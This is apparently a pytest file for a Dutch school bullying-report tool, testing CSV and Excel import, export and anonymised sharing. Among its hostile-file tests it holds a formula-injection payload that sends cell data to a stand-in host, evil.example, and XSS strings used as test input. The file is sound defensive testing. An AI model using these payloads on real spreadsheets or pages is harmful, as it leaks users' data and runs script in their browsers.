"""Import and export (pestdata.registers.export) against real SQLite files and real files on disk.

Hostile files are written in the exact bytes the programs that make them write: Dutch Excel's
"CSV (gescheiden door lijstscheidingsteken)" is Windows-1252 with ';' and CRLF, our own export
is UTF-8 with BOM, openpyxl writes real Excel dates and numbers. Row numbers are the ones a
spreadsheet shows (the header is row 1).
"""

from __future__ import annotations

import csv
import io as stdio
import json
import re
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from helpers import HEADER, cli, csv_bytes, incidents_by_target, row, write

from conftest import valid_incident_data
from pestdata.core import clock
from pestdata.core.choices import Form, Platform
from pestdata.core.guidance import load_protocol
from pestdata.core.model import validate_incident, validate_step
from pestdata.db.store import Store
from pestdata.db.tables import audit, incidents
from pestdata.incidents import incident_log, lookup
from pestdata.overview.filters import Filters
from pestdata.registers.export import (
    SHARE_COLUMNS,
    export_frame,
    neutralise,
    share_frame,
    write_export,
)
from pestdata.registers.importer import import_file
from pestdata.registers.reading import ImportFileError
from pestdata.school import demo, school_names

TODAY = date(2026, 3, 1)  # the demo's "today"
NOT_A_NUMBER = (
    "Leerlingnummer (leerling 1)",
    "dit lijkt geen leerlingnummer; gebruik de code van de school (bijv. 123456), nooit een naam",
)
BAD_DATE = ("Datum melding", "geen geldige datum (gebruik dd-mm-jjjj)")
FORMULA_START = ("=", "+", "-", "@")
PLATFORMS_ALLOWED = (
    "WhatsApp, Instagram, TikTok, Snapchat, YouTube, Discord, Gamechat, Facebook, X (Twitter), "
    "Schoolplatform, Anders"
)


# --- helpers of this file (the shared ones are in helpers.py) ---------------------------------


def new_store(tmp_path: Path, name: str = "t") -> Store:
    return Store(f"sqlite:///{tmp_path}/{name}.sqlite").ensure_schema()


def outcomes(report) -> list[tuple[int, str, list[tuple[str, str]]]]:
    return [(r.row, r.outcome, r.problems) for r in report.rows]


def dry_run_then_commit(store: Store, path: Path, expected: list, **options):
    """A school's own file into a database that may not list its school yet (add_schools).
    The dry run reports `expected` and stores nothing; the commit stores exactly the new."""
    options.setdefault("add_schools", True)
    schools = school_names.names(store)
    dry = import_file(store, path, **options)
    assert outcomes(dry) == expected
    assert school_names.names(store) == schools  # a dry run adds no school either
    assert lookup.count_incidents(store) == 0
    done = import_file(store, path, commit=True, **options)
    assert outcomes(done) == expected
    new = sum(outcome == "nieuw" for _, outcome, _ in expected)
    assert done.added == new
    assert lookup.count_incidents(store) == new
    return done


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(stdio.StringIO(path.read_bytes().decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(path: Path) -> list[list]:
    sheet = openpyxl.load_workbook(path).active
    return [[cell.value for cell in line] for line in sheet.iter_rows()]


# --- the care team's data, with extra descriptions and step notes ------------------------------


@pytest.fixture(scope="module")
def source(tmp_path_factory) -> Store:
    """300 demo reports; 15 of them with a second description and a step with a note that
    holds ';', quotes, a newline and accents (the hard parts of CSV)."""
    folder = tmp_path_factory.mktemp("source")
    store = Store(f"sqlite:///{folder}/source.sqlite").ensure_schema()
    incident_log.add_incidents(store, demo.generate(300, seed=2, today=TODAY), actor="demo")
    plain_steps = [s.id for s in load_protocol() if not s.asks_outcome]
    noted = 0
    for incident_id in range(1, 301):
        incident = lookup.get_incident(store, incident_id)
        missing = [s for s in plain_steps if s not in incident["steps"]]
        if not missing:
            continue
        incident_log.append_description(
            store,
            incident_id,
            f'Aanvulling {incident_id}: moeder belde; "dreigende" berichten\nop Snapchat, café',
            actor="mevr. Test (IB)",
        )
        incident_log.record_step(
            store,
            incident_id,
            validate_step(
                {
                    "step_id": missing[0],
                    "done_on": incident["reported_on"],
                    "done_by": "mevr. Test (IB)",
                    "note": f'Gesprek {incident_id}; ouders "boos"\nvervolg in het café',
                }
            ),
            actor="mevr. Test (IB)",
        )
        noted += 1
        if noted == 15:
            break
    return store


def pupil_numbers(store: Store) -> set[str]:
    with store.reading() as conn:
        return set(conn.execute(sa.text("SELECT pupil_number FROM incident_pupils")).scalars())


def free_texts(store: Store) -> tuple[set[str], set[str], set[str]]:
    """(description texts, step notes, staff names) stored in the database."""
    with store.reading() as conn:
        texts = set(conn.execute(sa.text("SELECT text FROM descriptions")).scalars())
        notes = set(conn.execute(sa.text("SELECT note FROM steps_done WHERE note != ''")).scalars())
        staff = set(conn.execute(sa.text("SELECT handler FROM incidents")).scalars())
        staff |= set(conn.execute(sa.text("SELECT done_by FROM steps_done")).scalars())
    return texts, notes, staff


# --- 1. round trip ------------------------------------------------------------------------------


def comparable(incident: dict) -> dict:
    return {
        "school": incident["school"],
        "reported_on": incident["reported_on"],
        "happened_on": incident["happened_on"],
        "reporter": incident["reporter"],
        "group": incident["group_name"],
        "severity": incident["severity"],
        "status": incident["status"],
        "resolved_on": incident["resolved_on"],
        "handler": incident["handler"],
        "platforms": incident["platforms"],
        "forms": incident["forms"],
        "pupils": incident["pupils"],
        "steps": {
            step_id: (s["done_on"], s["done_by"], s["note"], s["outcome"])
            for step_id, s in incident["steps"].items()
        },
    }


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_round_trip_restores_every_report_and_a_second_import_adds_nothing(
    source, tmp_path, suffix
):
    out = tmp_path / f"zorgteam{suffix}"
    write_export(export_frame(source, Filters()), out)
    target = new_store(tmp_path, "empty")

    report = import_file(target, out, commit=True, add_schools=True)
    assert report.refused() == []
    assert report.ignored_columns == ["Meldingnummer", "Naam in tekst?"]
    assert school_names.names(target) == school_names.names(source)
    assert report.added == 300 == lookup.count_incidents(target)
    assert [r.outcome for r in report.rows] == ["nieuw"] * 300
    assert [r.row for r in report.rows] == list(range(2, 302))

    original, imported = incidents_by_target(source), incidents_by_target(target)
    assert original.keys() == imported.keys()
    with_notes = 0
    for pupil, incident in original.items():
        again = imported[pupil]
        assert comparable(again) == comparable(incident), pupil
        assert [d["text"] for d in again["descriptions"]] == [
            "\n\n".join(d["text"] for d in incident["descriptions"])
        ]
        with_notes += any(s["note"] for s in again["steps"].values())
    assert with_notes == 15  # the notes with ';', quotes and a newline came back

    second = import_file(target, out, commit=True)  # the schools are on the list now
    assert second.added == 0
    assert [r.outcome for r in second.rows] == ["al aanwezig"] * 300
    assert lookup.count_incidents(target) == 300


def test_round_trip_keeps_a_pupil_number_with_a_slash(tmp_path, valid_incident_data):
    store = new_store(tmp_path, "slash")
    incident_log.add_incident(
        store,
        validate_incident(
            valid_incident_data(pupils=[{"pupil_number": "LL/2024/017", "role": "target"}])
        ),
        actor="t",
    )
    out = tmp_path / "zorgteam.csv"
    write_export(export_frame(store, Filters()), out)
    target = new_store(tmp_path, "empty")
    dry_run_then_commit(target, out, [(2, "nieuw", [])])
    assert lookup.get_incident(target, 1)["pupils"] == [
        {"pupil_number": "LL/2024/017", "role": "target"}
    ]


def dated_reports(store: Store) -> None:
    """Two reports as a care team keeps them: one handled (happened two days before it was
    reported, resolved, two steps done on their own dates), one still new without any date
    but the report's (and a leap day, which a spreadsheet's day numbers must get right)."""
    handled = validate_incident(
        valid_incident_data(
            reported_on=date(2025, 10, 3),
            happened_on=date(2025, 10, 1),
            status="resolved",
            resolved_on=date(2025, 10, 17),
        )
    )
    incident_log.add_incident(store, handled, actor="t")
    for step_id, day in (("steun", date(2025, 10, 6)), ("hulp", date(2025, 10, 8))):
        incident_log.record_step(
            store,
            1,
            validate_step({"step_id": step_id, "done_on": day, "done_by": "Mw. de Vries"}),
            actor="t",
        )
    fresh = validate_incident(valid_incident_data(reported_on=date(2024, 2, 29), happened_on=None))
    incident_log.add_incident(store, fresh, actor="t")


DATE_COLUMNS = ["Datum melding", "Datum voorval", "Datum opgelost", "Stap steun: datum"]


def test_excel_export_writes_dates_as_date_cells(tmp_path):
    store = new_store(tmp_path)
    dated_reports(store)
    frame = export_frame(store, Filters())
    out = tmp_path / "zorgteam.xlsx"
    write_export(frame, out)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header == list(frame.columns)
    assert all(c.font.b for c in sheet[1])  # the header bold
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(2)}
    handled, fresh = rows[1], rows[2]
    expected = {
        "Datum melding": datetime(2025, 10, 3),
        "Datum voorval": datetime(2025, 10, 1),
        "Datum opgelost": datetime(2025, 10, 17),
        "Stap steun: datum": datetime(2025, 10, 6),
        "Stap hulp: datum": datetime(2025, 10, 8),
    }
    for column, day in expected.items():
        cell = handled[column]
        assert (cell.value, cell.is_date, cell.data_type) == (day, True, "d"), column
        assert cell.number_format == "dd-mm-yyyy", column  # as a Dutch school writes a date
    assert (fresh["Datum melding"].value, fresh["Datum melding"].is_date) == (
        datetime(2024, 2, 29),
        True,
    )
    for column in ("Datum voorval", "Datum opgelost", "Stap steun: datum"):
        assert fresh[column].value is None, column  # empty, not a text '' or a 0 (1899)
    assert handled["Meldingnummer"].data_type == "n"
    assert handled["Stap steun: door"].value == "Mw. de Vries"
    assert handled["Status"].value == "Opgelost" and handled["Status"].data_type == "s"


def test_csv_export_writes_iso_dates_and_empty_cells(tmp_path):
    store = new_store(tmp_path)
    dated_reports(store)
    out = tmp_path / "zorgteam.csv"
    write_export(export_frame(store, Filters()), out)
    header, *lines = csv_cells(out)
    rows = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
    assert [rows["1"][c] for c in DATE_COLUMNS] == [
        "2025-10-03",
        "2025-10-01",
        "2025-10-17",
        "2025-10-06",
    ]
    assert [rows["2"][c] for c in DATE_COLUMNS] == ["2024-02-29", "", "", ""]


def test_the_browser_download_holds_date_cells_too(tmp_path):
    from pestdata.registers.export import export_bytes

    store = new_store(tmp_path)
    dated_reports(store)
    data = export_bytes(export_frame(store, Filters()))
    sheet = openpyxl.load_workbook(stdio.BytesIO(data)).active
    assert sheet.title == "Meldingen"
    dates = [c for c in sheet["C"][1:]]  # Datum melding
    assert [(c.value, c.is_date) for c in dates] == [
        (datetime(2024, 2, 29), True),
        (datetime(2025, 10, 3), True),
    ]


def test_excel_export_keeps_text_as_it_was(tmp_path):
    """Text with XML's own characters, line breaks, leading spaces and a quote reads back
    exactly; nothing in the file is a formula."""
    import pandas as pd

    texts = [
        "Ruzie in de app 'klas 2b' & daarna <schelden> op het plein",
        "regel 1\nregel 2\r\nregel 3",
        "  twee spaties vooraan, één achteraan ",
        'Hij zei: "doe normaal" (café, één week)',
    ]
    frame = pd.DataFrame({"Beschrijving": texts, "Datum melding": [date(2025, 11, 24)] * 4})
    out = tmp_path / "tekst.xlsx"
    write_export(frame, out)
    sheet = openpyxl.load_workbook(out).active
    assert [c.value for c in sheet["A"][1:]] == texts
    assert all(c.data_type == "s" for c in sheet["A"][1:])


# --- 2. hostile files ---------------------------------------------------------------------------


def test_dutch_excel_csv_semicolon_windows_1252(tmp_path):
    content = csv_bytes(
        [
            row(1, Vorm="Buitensluiten", Beschrijving="Zij werd één week buitengesloten (café)"),
            row(
                2,
                School="Het Baken College",
                Groep="Klas 2",
                **{"Gemeld door": "Leerkracht"},
                Platform="Snapchat",
                Ernst="Ernstig",
                Beschrijving='Geroddel over één leerling; daarna "ruzie"\nin het café',
            ),
        ]
    )
    assert b"\xe9\xe9n" in content and b"caf\xe9" in content and b"\r\n" in content
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")  # really Windows-1252, as Dutch Excel writes it
    store = new_store(tmp_path)
    dry_run_then_commit(
        store, write(tmp_path, "excel.csv", content), [(2, "nieuw", []), (3, "nieuw", [])]
    )
    stored = incidents_by_target(store)
    first, second = stored["400001"], stored["400002"]
    assert first["forms"] == ["exclusion"]
    assert first["reporter"] == "parent" and first["severity"] == "medium"
    assert first["reported_on"] == date(2025, 11, 23)
    assert first["descriptions"][0]["text"] == "Zij werd één week buitengesloten (café)"
    assert (second["school"], second["group_name"]) == ("Het Baken College", "klas 2")
    assert (second["reporter"], second["severity"]) == ("teacher", "high")
    assert second["platforms"] == ["snapchat"] and second["forms"] == ["gossip"]
    assert (
        second["descriptions"][0]["text"]
        == 'Geroddel over één leerling; daarna "ruzie"\nin het café'
    )


@pytest.mark.parametrize(
    ("sep", "encoding", "bom"),
    [(",", "utf-8", True), ("\t", "utf-8", False), (";", "utf-8", True), ("\t", "cp1252", False)],
    ids=["comma-utf8-bom", "tab-utf8", "semicolon-utf8-bom", "tab-cp1252"],
)
def test_other_separators_and_encodings(tmp_path, sep, encoding, bom):
    text = "Eén keer, in het café; daarna 'grap'"
    content = csv_bytes(
        [row(1, Beschrijving=text), row(2, Vorm="roddelen, buitensluiten")],
        sep=sep,
        encoding=encoding,
        bom=bom,
    )
    assert content.startswith(b"\xef\xbb\xbfDatum") == bom
    store = new_store(tmp_path)
    dry_run_then_commit(
        store, write(tmp_path, "f.csv", content), [(2, "nieuw", []), (3, "nieuw", [])]
    )
    stored = incidents_by_target(store)
    assert stored["400001"]["descriptions"][0]["text"] == text
    assert stored["400002"]["forms"] == ["exclusion", "gossip"]


def test_mixed_encodings_in_one_file_read_as_the_same_letter(tmp_path):
    header = csv_bytes([])
    line_utf8 = csv_bytes([row(1, Beschrijving="Gesprek in het café", Behandelaar="Mw. Hélène")])
    line_1252 = csv_bytes([row(2, Beschrijving="Gesprek in het café", Behandelaar="Mw. Hélène")])
    content = (
        header
        + line_utf8.decode("cp1252").split("\r\n", 1)[1].encode("utf-8")
        + line_1252.split(b"\r\n", 1)[1]
    )
    assert b"caf\xc3\xa9\r\n" in content and b"caf\xe9\r\n" in content
    store = new_store(tmp_path)
    dry_run_then_commit(
        store, write(tmp_path, "mixed.csv", content), [(2, "nieuw", []), (3, "nieuw", [])]
    )
    for incident in incidents_by_target(store).values():
        assert incident["descriptions"][0]["text"] == "Gesprek in het café"
        assert incident["handler"] == "Mw. Hélène"


@pytest.mark.parametrize("commit", [False, True])
def test_missing_required_column_is_a_dutch_file_error(tmp_path, commit):
    header = [c for c in HEADER if c != "Datum melding"]
    path = write(tmp_path, "zonder_datum.csv", csv_bytes([row(1)], header))
    store = new_store(tmp_path)
    with pytest.raises(ImportFileError) as error:
        import_file(store, path, commit=commit)
    assert "geen kolom 'Datum melding' gevonden" in str(error.value)
    assert "Leerlingnummer" in str(error.value)  # names the columns it did find
    assert lookup.count_incidents(store) == 0


def test_optional_columns_may_be_missing_and_unknown_ones_are_listed(tmp_path):
    header = HEADER + ["Opmerking intern", "Kolom 12"]
    content = csv_bytes(
        [row(1, **{"Opmerking intern": "niet importeren", "Kolom 12": "x"})], header
    )
    store = new_store(tmp_path)
    report = dry_run_then_commit(store, write(tmp_path, "f.csv", content), [(2, "nieuw", [])])
    assert report.ignored_columns == ["Opmerking intern", "Kolom 12"]
    incident = lookup.get_incident(store, 1)
    # No status column: a report of last school year is history, closed on its report date.
    assert incident["status"] == "closed" and incident["resolved_on"] == incident["reported_on"]
    assert incident["happened_on"] is None and incident["steps"] == {}
    assert [p["role"] for p in incident["pupils"]] == ["target"]
    assert "niet importeren" not in json.dumps(incident, default=str)


def test_a_10_mb_cell_refuses_that_row_only(tmp_path):
    huge = "x" * 10_000_000
    path = write(tmp_path, "groot.csv", csv_bytes([row(1), row(2, Beschrijving=huge), row(3)]))
    assert path.stat().st_size > 10_000_000
    store = new_store(tmp_path)
    dry_run_then_commit(
        store,
        path,
        [
            (2, "nieuw", []),
            (3, "geweigerd", [("Beschrijving", "maximaal 10.000 tekens (nu 10.000.000)")]),
            (4, "nieuw", []),
        ],
    )
    assert sorted(incidents_by_target(store)) == ["400001", "400003"]


def test_dutch_date_notations(tmp_path):
    accepted = [
        "23-11-2025",
        "23/11/25",
        "23.11.2025",
        "2025-11-23",
        "23 nov 2025",
        "23 november 2025",
    ]
    future = (clock.today() + timedelta(days=30)).strftime("%d-%m-%Y")
    refused = ["31-02-2025", "gisteren", future]
    rows = [row(n, **{"Datum melding": d}) for n, d in enumerate(accepted + refused, start=1)]
    store = new_store(tmp_path)
    dry_run_then_commit(
        store,
        write(tmp_path, "datums.csv", csv_bytes(rows)),
        [(n, "nieuw", []) for n in range(2, 8)]
        + [
            (8, "geweigerd", [BAD_DATE]),
            (9, "geweigerd", [BAD_DATE]),
            (10, "geweigerd", [("Datum melding", "deze datum ligt in de toekomst")]),
        ],
    )
    stored = incidents_by_target(store)
    assert len(stored) == 6
    assert {c["reported_on"] for c in stored.values()} == {date(2025, 11, 23)}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"klik hier")',
    "+1",
    "@SUM(A1)",
    "-2+3",
]


def test_formulas_are_imported_as_text_and_neutralised_on_export(tmp_path):
    rows = [row(n, Beschrijving=text) for n, text in enumerate(FORMULAS, start=1)]
    rows[2]["Behandelaar"] = "@mentor groep 7"
    store = new_store(tmp_path)
    dry_run_then_commit(
        store,
        write(tmp_path, "formules.csv", csv_bytes(rows)),
        [(n, "nieuw", []) for n in range(2, 6)],
    )
    stored = incidents_by_target(store)
    for n, text in enumerate(FORMULAS, start=1):
        assert stored[str(400000 + n)]["descriptions"][0]["text"] == text
    assert stored["400003"]["handler"] == "@mentor groep 7"
    # A phone number in a step note starts with '+' too.
    incident_log.record_step(
        store,
        1,
        validate_step(
            {
                "step_id": "steun",
                "done_on": date(2025, 11, 24),
                "done_by": "-Mw. Jansen",
                "note": "+31 6 12345678 gebeld",
            }
        ),
        actor="t",
    )

    out_csv, out_xlsx = tmp_path / "uit.csv", tmp_path / "uit.xlsx"
    frame = export_frame(store, Filters())
    write_export(frame, out_csv)
    write_export(frame, out_xlsx)

    raw = out_csv.read_bytes().decode("utf-8-sig")
    for text in FORMULAS:
        assert "'" + text.replace('"', '""') in raw
    for table in (csv_cells(out_csv), xlsx_cells(out_xlsx)):
        header, *lines = table
        column = {name: i for i, name in enumerate(header)}
        cells = [v for line in lines for v in line if isinstance(v, str)]
        assert cells and not [v for v in cells if v.startswith(FORMULA_START)]
        assert sorted(line[column["Beschrijving"]] for line in lines) == sorted(
            "'" + text for text in FORMULAS
        )
        assert "'@mentor groep 7" in [line[column["Behandelaar"]] for line in lines]
        assert "'+31 6 12345678 gebeld" in [line[column["Stap steun: notitie"]] for line in lines]
        assert "'-Mw. Jansen" in [line[column["Stap steun: door"]] for line in lines]
    sheet = openpyxl.load_workbook(out_xlsx).active
    assert [c for line in sheet.iter_rows() for c in line if c.data_type == "f"] == []


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("gewoon", "gewoon"),
        ("a=b", "a=b"),
        (12, 12),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    "blank",
    [
        pytest.param(b";" * (len(HEADER) - 1), id="excel-empty-rows"),
        pytest.param(
            b"",
            id="blank-lines",
        ),
    ],
)
def test_empty_lines_in_the_middle_and_at_the_end_are_skipped(tmp_path, blank):
    lines = csv_bytes([row(1), row(2)]).split(b"\r\n")  # header, row 2, row 3, ''
    content = b"\r\n".join([lines[0], lines[1], blank, lines[2], blank, blank]) + b"\r\n"
    store = new_store(tmp_path)
    dry_run_then_commit(
        store, write(tmp_path, "leeg.csv", content), [(2, "nieuw", []), (4, "nieuw", [])]
    )


def test_row_refusals_and_commit_of_the_valid_rows_in_one_transaction(tmp_path):
    html = '<script>alert("x")</script><b>vet</b> &amp; <img src=x onerror=alert(1)>'
    rows = [
        row(1),
        row(2, Leerlingnummer="Jan de Vries"),
        row(3, Platform="Myspace"),
        row(4, Beschrijving=html),
        row(5, Vorm="Buitensluiten", Platform="TikTok, Snapchat"),
    ]
    store = new_store(tmp_path)
    path = write(tmp_path, "gemengd.csv", csv_bytes(rows))
    report = dry_run_then_commit(
        store,
        path,
        [
            (2, "nieuw", []),
            (3, "geweigerd", [NOT_A_NUMBER]),
            (
                4,
                "geweigerd",
                [("Platforms", "onbekende waarde 'Myspace'; toegestaan: " + PLATFORMS_ALLOWED)],
            ),
            (5, "nieuw", []),
            (6, "nieuw", []),
        ],
    )
    assert report.refused() == [
        f"rij 3: {NOT_A_NUMBER[0]}: {NOT_A_NUMBER[1]}",
        "rij 4: Platforms: onbekende waarde 'Myspace'; toegestaan: " + PLATFORMS_ALLOWED,
    ]
    assert report.summary() == "5 rijen: 3 toegevoegd, 0 al aanwezig, 2 geweigerd."
    stored = incidents_by_target(store)
    assert sorted(stored) == ["400001", "400004", "400005"]
    assert stored["400004"]["descriptions"][0]["text"] == html
    assert stored["400005"]["platforms"] == ["snapchat", "tiktok"]
    assert "Jan de Vries" not in json.dumps([stored[k] for k in stored], default=str)
    # One transaction: one import entry in the audit log, one creation time for all.
    with store.reading() as conn:
        entries = conn.execute(sa.select(audit).where(audit.c.action == "import")).all()
        stamps = set(conn.execute(sa.select(incidents.c.created_at)).scalars())
    assert len(entries) == 1 and json.loads(entries[0].new_value)["added"] == 3
    assert len(stamps) == 1


def mapped_file(tmp_path: Path) -> Path:
    header = ["Gemeld op datum" if c == "Datum melding" else c for c in HEADER]
    rows = [{("Gemeld op datum" if k == "Datum melding" else k): v for k, v in row(1).items()}]
    return write(tmp_path, "eigen_kop.csv", csv_bytes(rows, header))


def test_mapping_to_a_field_name_and_no_mapping(tmp_path):
    path = mapped_file(tmp_path)
    store = new_store(tmp_path)
    with pytest.raises(ImportFileError):
        import_file(store, path)
    dry_run_then_commit(store, path, [(2, "nieuw", [])], mapping={"Gemeld op datum": "reported_on"})
    assert lookup.get_incident(store, 1)["reported_on"] == date(2025, 11, 23)


def test_mapping_to_our_dutch_header(tmp_path):
    store = new_store(tmp_path)
    dry_run_then_commit(
        store,
        mapped_file(tmp_path),
        [(2, "nieuw", [])],
        mapping={"Gemeld op datum": "Datum melding"},
    )
    assert lookup.get_incident(store, 1)["reported_on"] == date(2025, 11, 23)


def test_a_number_word_before_a_role_names_that_roles_column(tmp_path):
    """'Leerlingnr slachtoffer', 'Llnr dader', 'Leerling nr. omstander': a school's own
    headings, in a cp1252 ';' file as Excel saves it; each number lands under its role."""
    content = (
        "Datum;School;Groep;Leerlingnr slachtoffer;Llnr dader;Leerling nr. omstander;"
        "Platform;Vorm\r\n"
        "12-11-2025;De Regenboog;7;204533;204534;204535;WhatsApp;buitensluiten\r\n"
    ).encode("cp1252")
    store = new_store(tmp_path)
    dry_run_then_commit(store, write(tmp_path, "register.csv", content), [(2, "nieuw", [])])
    pupils = lookup.get_incident(store, 1)["pupils"]
    assert sorted((p["pupil_number"], p["role"]) for p in pupils) == [
        ("204533", "target"),
        ("204534", "bully"),
        ("204535", "bystander"),
    ]


def test_cli_map_option(tmp_path):
    url = f"sqlite:///{tmp_path}/cli.sqlite"
    path = mapped_file(tmp_path)
    done = cli(
        "import", str(path), "--db", url, "--map", "Gemeld op datum=Datum melding", "--commit",
        "--add-schools",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "1 rij: 1 toegevoegd, 0 al aanwezig, 0 geweigerd." in done.stdout
    assert lookup.count_incidents(Store(url)) == 1


def test_xlsx_from_openpyxl_with_real_dates_and_numbers(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Datum melding", "Datum voorval", *HEADER[1:4], "Pester", *HEADER[4:]])
    sheet.append(
        [datetime(2025, 11, 23), date(2025, 11, 20), "De Regenboog", "Leerkracht", 123456]
        + [234567.0, "groep 6", "TikTok", "Buitensluiten", "Ernstig", "Mw. Jansen", "één"]
    )
    sheet.append(
        [datetime(2025, 11, 24, 13, 5), datetime(2025, 11, 24), "De Regenboog", "Mentor", 123457]
        + [None, "klas 2", "Discord", "Bedreiging", "Hoog", "Dhr. Visser", "café"]
    )
    for cell in sheet["A"][1:]:
        cell.number_format = "DD-MM-YYYY"
    path = tmp_path / "school.xlsx"
    book.save(path)
    assert isinstance(openpyxl.load_workbook(path).active["E2"].value, int)
    store = new_store(tmp_path)
    dry_run_then_commit(store, path, [(2, "nieuw", []), (3, "nieuw", [])])
    stored = incidents_by_target(store)
    first, second = stored["123456"], stored["123457"]
    assert (first["reported_on"], first["happened_on"]) == (date(2025, 11, 23), date(2025, 11, 20))
    assert first["pupils"] == [
        {"pupil_number": "234567", "role": "bully"},
        {"pupil_number": "123456", "role": "target"},
    ]
    assert (second["reported_on"], second["happened_on"]) == (date(2025, 11, 24),) * 2
    assert second["pupils"] == [{"pupil_number": "123457", "role": "target"}]
    assert (second["forms"], second["severity"]) == (["threats"], "high")
    assert first["descriptions"][0]["text"] == "één"


@pytest.mark.parametrize(
    "content, message",
    [
        pytest.param(b"", "het bestand is leeg", id="empty"),
        pytest.param(b"\r\n \r\n\r\n", "het bestand is leeg", id="only-blank-lines"),
        pytest.param(b"PK\x03\x04" + bytes(500), "geen leesbaar Excel-bestand", id="broken-xlsx"),
        pytest.param(
            bytes(range(256)) * 40,
            None,
            id="binary-garbage",
        ),
    ],
)
def test_unreadable_files_are_dutch_file_errors(tmp_path, content, message):
    path = write(tmp_path, "kapot.csv", content)
    store = new_store(tmp_path)
    with pytest.raises(ImportFileError) as error:
        import_file(store, path, commit=True)
    assert str(path) in str(error.value)
    if message:
        assert message in str(error.value)
    assert lookup.count_incidents(store) == 0


def test_a_row_with_too_many_or_too_few_cells_is_refused_alone(tmp_path):
    lines = csv_bytes([row(1), row(2), row(3), row(4), row(5)]).split(b"\r\n")
    lines[2] += b";;extra"  # row 3: two cells too many, one with text
    lines[3] = lines[3].rsplit(b";", 2)[0]  # row 4: two cells too few
    lines[4] += b";;"  # row 5: empty extra cells, as Excel writes them: no problem
    path = write(tmp_path, "scheef.csv", b"\r\n".join(lines))
    store = new_store(tmp_path)
    school_names.add(store, "De Regenboog", "test")
    report = import_file(store, path, commit=True)
    assert [(r.row, r.outcome) for r in report.rows] == [
        (2, "nieuw"),
        (3, "geweigerd"),
        (4, "geweigerd"),
        (5, "nieuw"),
        (6, "nieuw"),
    ]
    assert "12 cellen, meer dan de 10 kolommen" in report.rows[1].problems[0][1]
    assert "8 cellen, minder dan de 10 kolommen" in report.rows[2].problems[0][1]
    assert lookup.count_incidents(store) == 3


def test_dutch_apostrophes_do_not_confuse_the_separator(tmp_path):
    text = "'s Avonds foto's gedeeld, 'grap', niet 'leuk'"
    store = new_store(tmp_path)
    dry_run_then_commit(
        store,
        write(tmp_path, "apostrof.csv", csv_bytes([row(1, Beschrijving=text), row(2)])),
        [(2, "nieuw", []), (3, "nieuw", [])],
    )
    assert incidents_by_target(store)["400001"]["descriptions"][0]["text"] == text


# --- 3. share export ----------------------------------------------------------------------------


def share_export(store: Store, tmp_path: Path, name: str, filters=None) -> tuple[Path, Path]:
    frame = share_frame(store, filters or Filters())
    paths = (tmp_path / f"{name}.csv", tmp_path / f"{name}.xlsx")
    for path in paths:
        write_export(frame, path)
    return paths


def test_share_export_holds_counts_only(source, tmp_path):
    numbers = pupil_numbers(source)
    texts, notes, staff = free_texts(source)
    out_csv, out_xlsx = share_export(source, tmp_path, "bestuur")
    raw = out_csv.read_bytes().decode("utf-8-sig")
    for table in (csv_cells(out_csv), xlsx_cells(out_xlsx)):
        header, *lines = table
        assert header == SHARE_COLUMNS
        assert lines
        cells = ["" if v is None else str(v) for line in lines for v in line]
        assert not [n for n in numbers if n in cells]
        counts = [int(line[4]) for line in lines if line[4] not in (None, "")]
        assert counts and all(n % 5 == 0 and n >= 5 for n in counts)
    assert not re.search(r"\d{4}-\d{2}-\d{2}", raw)  # months, never days
    assert "Meldingnummer" not in raw and "groep " not in raw.lower().replace("leeftijd", "")
    assert not [t for t in staff if t in raw]
    assert not [t for t in texts | notes if t.split("\n")[0] in raw]


def issue_school(tmp_path: Path) -> Store:
    """The issue's case: 6 reports, WhatsApp 5 and Snapchat 1, 5 in October, 1 in November."""
    store = new_store(tmp_path, "zes")
    for day, platform in [*((date(2025, 10, d), "whatsapp") for d in (1, 2, 3, 6, 7)),
                          (date(2025, 11, 12), "snapchat")]:  # fmt: skip
        incident = validate_incident(valid_incident_data(
            school="Klein", reported_on=day, happened_on=None, platforms=[platform],
            forms=["sextortion"] if platform == "snapchat" else ["gossip"]))  # fmt: skip
        incident_log.add_incident(store, incident, actor="t")
    return store


def test_share_export_gives_no_small_count_away_by_subtraction(tmp_path):
    store = issue_school(tmp_path)
    frame = share_frame(store, Filters())
    rows = {(r.Kenmerk, r.Waarde): r._5 for r in frame.itertuples()}
    assert rows[("Totaal", "meldingen")] == 5  # 6, rounded
    # 6 reports is below the base of 10: the total only, with the sentence why.
    assert list(rows) == [("Totaal", "meldingen")]
    assert "Minder dan 10 meldingen bij deze keuze" in frame["Toelichting"].iloc[0]
    text = frame.to_csv()
    assert "Snapchat" not in text and "sextortion" not in text.lower()
    assert not [n for n in frame["Aantal meldingen"].dropna() if 0 < n < 5]

    # Six more WhatsApp reports in October (12: WhatsApp 11, Snapchat 1): broken down, every
    # platform and form listed, the one Snapchat sextortion report "< 5" like the platforms
    # and forms without any, and November's 1 "< 5" like every empty month after it.
    for day in range(13, 19):
        incident = validate_incident(valid_incident_data(
            school="Klein", reported_on=date(2025, 10, day), happened_on=None,
            platforms=["whatsapp"], forms=["gossip"]))  # fmt: skip
        incident_log.add_incident(store, incident, actor="t")
    frame = share_frame(store, Filters())
    rows = {(r.Kenmerk, r.Waarde): (str(r._5), r.Toelichting) for r in frame.itertuples()}
    assert rows[("Totaal", "meldingen")][0] == "10"  # 12, rounded
    assert not [n for n in frame["Aantal meldingen"].dropna() if n % 5 or n < 5]
    assert "Overig" not in frame["Waarde"].to_list()
    platforms = {w: c for (k, w), c in rows.items() if k == "Platform"}
    forms = {w: c for (k, w), c in rows.items() if k == "Vorm"}
    assert list(platforms) == [p.label for p in Platform]
    assert list(forms) == [f.label for f in Form]
